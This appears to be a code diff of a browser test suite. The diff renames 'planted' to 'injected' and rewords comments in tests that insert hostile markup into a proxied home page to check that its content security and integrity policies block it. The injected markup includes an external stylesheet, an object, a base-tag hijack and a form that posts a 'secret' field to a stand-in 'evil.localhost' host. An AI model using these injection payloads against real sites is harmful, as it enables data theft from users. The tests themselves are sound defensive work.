@@ -4,11 +4,11 @@ import { localesByEdition, type EditionId } from "@portico/shared-sdk";
 import { expect, test as base } from "../support/exchangeFixture.ts";
 import { createFaultProxy, type FaultProxy } from "../support/faultProxy.ts";
 import { answerWith, changeAnswer } from "../support/faultResponders.ts";
-import { plantedMarkup } from "./plantedMarkup.ts";
+import { injectedMarkup } from "./injectedMarkup.ts";
 
 const homePage = "/en/";
 
-/** Says which planted script ran: its name stands in the address. */
+/** Records which injected script ran; its name is in the address. */
 const markScript =
   "(window.__pwn = window.__pwn || []).push(decodeURIComponent(document.currentScript.src.split('?')[1]));";
 const markIntegrity = `sha384-${createHash("sha384").update(markScript).digest("base64")}`;
@@ -22,9 +22,9 @@ const test = base.extend<{ faultProxy: FaultProxy }>({
   },
 });
 
-/** The markup of every attack, each telling its own name when it runs. */
+/** The markup of all attacks; each records its name when it runs. */
 function writeMarkup(port: number): string {
-  const filled = plantedMarkup.map(({ name, html }) =>
+  const filled = injectedMarkup.map(({ name, html }) =>
     html
       .replace("{mark}", `window.__pwn=(window.__pwn||[]).concat('${name}')`)
       .replace("parent.window.__pwn=(window.__pwn", "parent.__pwn=(parent.__pwn")
@@ -33,57 +33,60 @@ function writeMarkup(port: number): string {
       .replace("{name}", encodeURIComponent(name))
       .replace("{integrity}", markIntegrity),
   );
-  return `<div id="planted">${filled.join("")}</div>`;
+  return `<div id="injected">${filled.join("")}</div>`;
 }
 
-const plantInto = (keepsPolicy: boolean, planted: string) =>
+const inject = (keepsPolicy: boolean, injected: string) =>
   changeAnswer(({ headers, body }) => {
     const {
       "content-security-policy": policy,
       "integrity-policy": integrityPolicy,
       ...others
     } = headers as Record<string, string>;
-    const kept = {
+    const pageHeaders = {
       ...others,
       "content-security-policy": policy ?? "",
       "integrity-policy": integrityPolicy ?? "",
     };
     return {
-      headers: keepsPolicy ? kept : others,
-      body: Buffer.from(body.toString().replace("</main>", `</main>${planted}`)),
+      headers: keepsPolicy ? pageHeaders : others,
+      body: Buffer.from(body.toString().replace("</main>", `</main>${injected}`)),
     };
   });
 
 async function runAttacks(page: Page, proxy: FaultProxy, keepsPolicy: boolean): Promise<readonly string[]> {
-  proxy.respond((path) => path === homePage, plantInto(keepsPolicy, writeMarkup(proxy.port)));
+  proxy.respond((path) => path === homePage, inject(keepsPolicy, writeMarkup(proxy.port)));
   await page.goto(`http://localhost:${proxy.port}${homePage}`);
   await page.locator('[data-remote="header"][data-state="mounted"]').waitFor();
-  await page.locator("#planted-link").dispatchEvent("click");
+  await page.locator("#injected-link").dispatchEvent("click");
   const names = await page.evaluate(() => (window as unknown as { __pwn?: readonly string[] }).__pwn ?? []);
   return [...new Set(names)].sort();
 }
 
-test.describe("markup that somebody planted", () => {
+test.describe("injected markup", () => {
   test.use({ expectedProblems: /./ });
 
-  test("runs where no policy stands in its way", async ({ page, faultProxy }) => {
-    expect(await runAttacks(page, faultProxy, false)).toEqual(plantedMarkup.map(({ name }) => name).sort());
+  test("runs without the page's policy", async ({ page, faultProxy }) => {
+    expect(await runAttacks(page, faultProxy, false)).toEqual(injectedMarkup.map(({ name }) => name).sort());
   });
 
-  test(`none of ${plantedMarkup.length} kinds runs in a page`, async ({ page, faultProxy }) => {
+  test(`none of ${injectedMarkup.length} kinds runs in a page`, async ({ page, faultProxy }) => {
     expect(await runAttacks(page, faultProxy, true)).toEqual([]);
   });
 
   for (const keepsPolicy of [false, true]) {
-    const outcome = keepsPolicy ? "lead nowhere" : "are followed where no policy stands in their way";
-    test(`a base element, a foreign sheet, a plugin and a form ${outcome}`, async ({ page, faultProxy }) => {
+    const outcome = keepsPolicy ? "are blocked" : "load without the page's policy";
+    test(`a base element, a style sheet of another origin, a plugin and a form ${outcome}`, async ({
+      page,
+      faultProxy,
+    }) => {
       const evil = `http://evil.localhost:${faultProxy.port}`;
       // the base comes last: before the page's own addresses it would only break the page
-      const planted =
+      const injected =
         `<link rel="stylesheet" href="${evil}/evil.css"><object data="${evil}/object.html"></object>` +
-        `<form id="planted-form" action="${evil}/form" method="post"><input name="secret" value="1"></form>` +
+        `<form id="injected-form" action="${evil}/form" method="post"><input name="secret" value="1"></form>` +
         `<base href="${evil}/"><img src="base.png" alt="">`;
-      faultProxy.respond((path) => path === homePage, plantInto(keepsPolicy, planted));
+      faultProxy.respond((path) => path === homePage, inject(keepsPolicy, injected));
       await page.goto(`http://localhost:${faultProxy.port}${homePage}`);
       if (keepsPolicy) await page.locator('[data-remote="footer"][data-state="mounted"]').waitFor();
       await submitUntilAnswered(page, keepsPolicy);
@@ -95,16 +98,16 @@ test.describe("markup that somebody planted", () => {
   }
 });
 
-/** Sends the planted form; resolves when it was refused, or when its answer has come. */
+/** Submits the injected form; resolves when the browser blocked it or the response has arrived. */
 async function submitUntilAnswered(page: Page, isRefused: boolean): Promise<void> {
   if (!isRefused) {
     const answered = page.waitForEvent("requestfinished", (request) => request.url().endsWith("/form"));
-    await page.locator("#planted-form").evaluate((form: HTMLFormElement) => {
+    await page.locator("#injected-form").evaluate((form: HTMLFormElement) => {
       setTimeout(() => form.submit());
     });
     return void (await answered);
   }
-  await page.locator("#planted-form").evaluate(
+  await page.locator("#injected-form").evaluate(
     (form: HTMLFormElement) =>
       new Promise<void>((resolve) => {
         document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
@@ -115,7 +118,7 @@ async function submitUntilAnswered(page: Page, isRefused: boolean): Promise<void
   );
 }
 
-/** The pages that a build writes, in editions that differ in direction, alphabet and head. */
+/** Built pages of editions that differ in direction, alphabet and head. */
 const normalPages: readonly (readonly [EditionId, string])[] = (
   ["global", "turkey", "uae"] satisfies readonly EditionId[]
 ).flatMap((edition) =>
@@ -124,7 +127,7 @@ const normalPages: readonly (readonly [EditionId, string])[] = (
   ),
 );
 
-test("no normal page violates its own policy, and every script and sheet has one hash", async ({
+test("no normal page violates its own policy, and every script and style sheet has a hash", async ({
   page,
   exchange,
 }) => {
